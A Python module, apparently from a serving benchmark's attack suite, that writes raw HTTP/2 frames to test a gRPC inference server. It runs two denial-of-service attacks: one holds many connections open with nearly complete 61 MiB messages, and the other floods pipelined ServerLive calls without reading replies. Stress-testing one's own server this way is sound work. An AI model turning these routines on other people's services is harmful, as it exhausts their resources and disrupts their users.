"""Attacks over gRPC, as bytes on the wire: no client library sends a part of a message and waits."""

import asyncio
import collections
import contextlib
import time

from benchmarks.serving.attack import http2
from benchmarks.serving.attack.bodies import DECLARED_BYTES, SENT_BYTES
from benchmarks.serving.attack.crowd import Client, Counts, Crowd
from benchmarks.serving.attack.target import SERVER, Target

_INITIAL_WINDOW_SETTING, _WINDOW_BYTES, _FRAME_BYTES = 4, 65535, 16384
_INFER, _LIVE = (b"/inference.GRPCInferenceService/" + name for name in (b"ModelInfer", b"ServerLive"))
_CALLS = 5000
"""Calls on one connection, before another is opened."""


def unfinished(target: Target, seconds: float, *, connections: int) -> Counts:
    """Send 60 MiB of a message of 61 MiB on each connection, and wait."""

    async def run() -> Counts:
        end = time.monotonic() + seconds
        attackers = [_Unfinished(target.grpc_port) for _ in range(connections)]
        await asyncio.gather(*(each.run(end) for each in attackers))
        counts: collections.Counter[str] = collections.Counter()
        for each in attackers:
            counts.update(each.counts)
        counts["MiB sent"] = sum(each.sent_bytes for each in attackers) >> 20
        return dict(counts)

    return asyncio.run(run())


def pipelined(target: Target, seconds: float, *, connections: int) -> Counts:
    """Send ServerLive calls without waiting for answers."""
    head = http2.call_head(_LIVE)
    parts = [http2.PREFACE, http2.frame(http2.SETTINGS, 0, 0, b"")]
    for stream in range(1, 2 * _CALLS, 2):
        parts.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, head))
        parts.append(http2.frame(http2.DATA, http2.END_STREAM, stream, http2.EMPTY_MESSAGE))
    return Crowd(target.grpc_port, Client(b"".join(parts)), connections).run(seconds)


class _Unfinished:
    """One attacker with one connection after another; it respects flow control (RFC 9113, section 5.2)."""

    def __init__(self, port: int) -> None:
        self.counts: collections.Counter[str] = collections.Counter()
        self.sent_bytes = 0
        self._port = port

    async def run(self, end: float) -> None:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout_at(asyncio.get_running_loop().time() + end - time.monotonic()):
                while True:
                    self.counts["connections"] += 1
                    with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                        await self._connection()
                    self.counts["closed by the server"] += 1
                    await asyncio.sleep(0.1)

    async def _connection(self) -> None:
        reader, writer = await asyncio.open_connection(SERVER, self._port)
        try:
            writer.write(
                http2.PREFACE
                + http2.frame(http2.SETTINGS, 0, 0, b"")
                + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.call_head(_INFER))
            )
            left = bytes(1) + DECLARED_BYTES.to_bytes(4) + bytes(_FRAME_BYTES - 5)
            sent, windows, initial = 0, {0: _WINDOW_BYTES, 1: _WINDOW_BYTES}, _WINDOW_BYTES
            while True:
                while sent < SENT_BYTES and min(windows.values()) >= len(left):
                    writer.write(http2.frame(http2.DATA, 0, 1, left))
                    await writer.drain()
                    windows = {stream: window - len(left) for stream, window in windows.items()}
                    sent, left = sent + len(left), bytes(_FRAME_BYTES)
                    self.sent_bytes += len(left)
                kind, flags, stream, content = await _read(reader)
                if kind == http2.WINDOW_UPDATE and stream in windows:
                    windows[stream] += int.from_bytes(content) & 0x7FFFFFFF
                elif kind == http2.SETTINGS and not flags & http2.ACK:
                    for at in range(0, len(content), 6):
                        if int.from_bytes(content[at : at + 2]) == _INITIAL_WINDOW_SETTING:
                            now = int.from_bytes(content[at + 2 : at + 6])
                            windows[1], initial = windows[1] + now - initial, now
                    writer.write(http2.frame(http2.SETTINGS, http2.ACK, 0, b""))
                elif kind == http2.PING and not flags & http2.ACK:
                    writer.write(http2.frame(http2.PING, http2.ACK, 0, content))
                elif kind == http2.HEADERS and flags & http2.END_STREAM:  # the call was refused
                    self.counts["refused"] += 1
                    return
        finally:
            writer.transport.abort()


async def _read(reader: asyncio.StreamReader) -> tuple[int, int, int, bytes]:
    head = await reader.readexactly(9)
    return head[3], head[4], int.from_bytes(head[5:]) & 0x7FFFFFFF, await reader.readexactly(int.from_bytes(head[:3]))
